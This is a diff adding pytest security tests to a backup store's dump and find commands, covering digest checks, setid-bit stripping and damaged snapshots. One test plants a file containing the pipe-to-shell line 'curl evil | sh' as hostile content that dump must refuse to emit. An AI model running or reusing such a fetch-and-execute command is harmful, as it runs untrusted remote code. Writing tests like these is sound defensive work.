@@ -17,7 +17,9 @@ import pytest
 
 import castore
 from castore.format import layout
+from castore.versions.catalog import commit_version
 from tests.helpers import pattern
+from tests.test_backup import commit_raw_tree, raw_file
 from tests.test_backup_fidelity import MTIME, build_linked_tree
 
 MIB = 1024 * 1024
@@ -209,3 +211,69 @@ def test_find_lists_the_snapshots_that_hold_matching_paths(
     text = cli(local_store, "find", "*.csv").stdout.decode()
     assert "backups/home:2" in text and "data/raw/test.csv" in text
     assert "(no snapshot holds" in cli(local_store, "find", "*.zip").stdout.decode()
+
+
+# -- found by attacking dump and find (a store writer plants the trees) ---------------------
+
+
+def test_dump_checks_a_file_against_its_digest_before_writing_a_byte(
+    local_store: castore.Store,
+) -> None:
+    """An entry claiming an honest file's digest over other chunks: diff and ls go by the
+    digest, so dump must not hand out the chunks' bytes."""
+    honest = local_store.repository.write_stream(b"trusted release\n")
+    evil = local_store.repository.write_stream(b"curl evil | sh\n")
+    ref = commit_raw_tree(
+        local_store, "planted", [raw_file(b"install.sh", evil, sha256=honest.sha256)]
+    )
+    out = io.BytesIO()
+    with pytest.raises(castore.IntegrityError, match="the snapshot is damaged"):
+        local_store.dump(ref, "install.sh", out)
+    assert out.getvalue() == b""
+    archive = io.BytesIO()
+    with pytest.raises(castore.IntegrityError, match="the snapshot is damaged"):
+        local_store.dump(ref, "/", archive, archive="tar")
+    assert b"curl evil" not in archive.getvalue()
+
+
+def test_dump_of_the_root_without_an_archive_is_refused(local_store: castore.Store) -> None:
+    content = local_store.repository.write_stream(b"first file\n")
+    ref = commit_raw_tree(local_store, "one", [raw_file(b"a", content)])
+    empty = commit_raw_tree(local_store, "empty", [])
+    for snapshot in (ref, empty):
+        for root in ("/", "", "."):
+            with pytest.raises(castore.InvalidInputError, match="is a directory"):
+                local_store.dump(snapshot, root, io.BytesIO())
+    with pytest.raises(castore.NotFoundError):
+        local_store.dump(ref, "a/b", io.BytesIO())
+
+
+def test_dump_archive_drops_setid_bits_as_restore_does(local_store: castore.Store) -> None:
+    content = local_store.repository.write_stream(b"#!/bin/sh\n")
+    planted = raw_file(b"su", content, mode=0o6755)
+    ref = commit_raw_tree(local_store, "setid", [planted])
+    out = io.BytesIO()
+    local_store.dump(ref, "/", out, archive="tar")
+    assert _members(out.getvalue())["su"].mode == 0o755
+
+
+def test_find_stops_at_a_damaged_snapshot_and_passes_over_what_is_not_one(
+    local_store: castore.Store, tmp_path: Path
+) -> None:
+    content = local_store.repository.write_stream(b"x")
+    commit_raw_tree(local_store, "good", [raw_file(b"train.csv", content)])
+    assert [m.version.name for m in local_store.find_paths(["*.csv"])] == ["good"]
+    with_pickle = commit_version(
+        local_store.repository, "pickled", content, kind="tree", serializer="pickle",
+        serializer_version="1", metadata={}, tags=(), force=True,
+    )  # fmt: skip
+    assert with_pickle.kind == "tree"
+    assert [m.version.name for m in local_store.find_paths(["*.csv"])] == ["good"]
+    commit_raw_tree(local_store, "broken", [raw_file(b"train.csv", content)], version="x")
+    with pytest.raises(castore.IntegrityError, match="invalid tree format version"):
+        list(local_store.find_paths(["*.csv"]))
+    commit_raw_tree(local_store, "newer", [raw_file(b"train.csv", content)], version="99")
+    with pytest.raises(castore.UnsupportedFormatError):
+        list(local_store.find_paths(["*.csv"], names=["newer"]))
+    found = next(iter(local_store.find_paths(["*.csv"], names=["good"])))
+    assert found.entries[0].chunk_ids == b""  # listings do not carry chunk lists
